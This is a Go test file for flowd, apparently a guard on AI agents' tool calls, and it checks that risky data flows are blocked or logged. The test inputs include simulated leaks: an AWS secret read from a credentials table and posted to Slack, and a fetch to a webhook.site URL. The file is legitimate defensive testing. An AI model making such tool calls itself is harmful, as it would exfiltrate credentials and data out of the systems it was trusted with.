package upstream

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/flowd-dev/flowd/internal/activity"
	"github.com/flowd-dev/flowd/internal/config"
	"github.com/flowd-dev/flowd/internal/judge/judgetest"
	"github.com/flowd-dev/flowd/internal/shimproto"
)

func TestSecretFromInternalToExternalIsDenied(t *testing.T) {
	d := newEnv(t, nil)
	db := NewStream(1, shimproto.Hello{Name: "postgres-db"}, "s")
	slack := NewStream(2, shimproto.Hello{Name: "slack-notifications"}, "s")
	judgetest.CallAndAnswer(d.judge, db, 1, "query", `{"sql":"select * from credentials"}`,
		"name,value\nprod,aws_secret_access_key = "+judgetest.AWSSecret+"\n")
	text := judgetest.BlockedText(t, judgetest.CallAndAnswer(d.judge, slack, 1, "send_message",
		`{"channel":"#general","text":"here you go: `+judgetest.AWSSecret+`"}`, ""))
	assert.Equal(t, "flowd blocked: Sensitive data (aws_secret_key) flowing from internal source (postgres-db) to external destination (slack-notifications)", text)

	require.NoError(t, d.store.Flush())
	recs, err := d.store.Query(activity.Filter{Type: "tool_call", RiskLevel: "high"})
	require.NoError(t, err)
	require.Len(t, recs, 1)
	assert.Equal(t, "critical", recs[0].RiskLevel)
	assert.Equal(t, "internal→external", recs[0].FlowType)
	assert.Equal(t, "deny", recs[0].Decision)
}

func TestFlowDecisions(t *testing.T) {
	doc := "Quarterly roadmap: migrate the billing service to the new ledger schema before the March freeze."
	tests := []struct {
		name      string
		overrides map[string]string
		from, to  string
		tool      string
		verdict   shimproto.Action
		decision  string
		flowType  string
	}{
		{"internal to external, proxy-only: ask falls back to warn", nil, "github", "slack-notifications", "send_message", shimproto.Pass, "warn", "internal→external"},
		{"internal to internal", nil, "github", "postgres-db", "insert_record", shimproto.Pass, "allow", "internal→internal"},
		{"override makes a slack internal", map[string]string{"my-private-slack": "internal"}, "github", "my-private-slack", "send_message", shimproto.Pass, "allow", "internal→internal"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := newEnv(t, nil)
			if tt.overrides != nil {
				cfg := config.Default()
				cfg.Classify.Servers = tt.overrides
				require.NoError(t, d.Reload(cfg))
			}
			src := NewStream(1, shimproto.Hello{Name: tt.from}, "s")
			dst := NewStream(2, shimproto.Hello{Name: tt.to}, "s")
			judgetest.CallAndAnswer(d.judge, src, 1, "get_file_contents", `{"path":"ROADMAP.md"}`, doc)
			v := judgetest.CallAndAnswer(d.judge, dst, 1, tt.tool, `{"text":"FYI `+doc+`"}`, "ok")
			assert.Equal(t, tt.verdict, v.Action)
			require.NoError(t, d.store.Flush())
			recs, err := d.store.Query(activity.Filter{Type: "tool_call", Server: tt.to})
			require.NoError(t, err)
			require.Len(t, recs, 1)
			assert.Equal(t, tt.decision, recs[0].Decision)
			assert.Equal(t, tt.flowType, recs[0].FlowType)
		})
	}
}

func TestSuspiciousEndpointDenied(t *testing.T) {
	d := newEnv(t, map[string]string{"fetch": "allow"})
	web := NewStream(1, shimproto.Hello{Name: "fetch"}, "s")
	text := judgetest.BlockedText(t, judgetest.CallAndAnswer(d.judge, web, 1, "fetch", `{"url":"https://x.webhook.site/abc?q=1"}`, ""))
	assert.Contains(t, text, "suspicious endpoint webhook.site")
}

// Arguments flowd cannot fully read do not leave the machine.
func TestOversizeArgumentsToExternalAreDenied(t *testing.T) {
	d := newEnv(t, nil)
	cfg := config.Default()
	cfg.Shim.MaxInspectBytes = 1024
	require.NoError(t, d.Reload(cfg))
	big := `{"text":"` + strings.Repeat("a", 2000) + `"}`
	slack := NewStream(1, shimproto.Hello{Name: "slack"}, "s")
	text := judgetest.BlockedText(t, judgetest.CallAndAnswer(d.judge, slack, 1, "send_message", big, ""))
	assert.Contains(t, text, "exceed shim.max_inspect_bytes")
	db := NewStream(2, shimproto.Hello{Name: "postgres-db"}, "s")
	assert.Equal(t, shimproto.Pass, judgetest.CallAndAnswer(d.judge, db, 1, "insert_record", big, "ok").Action, "an internal destination keeps the data inside")
}
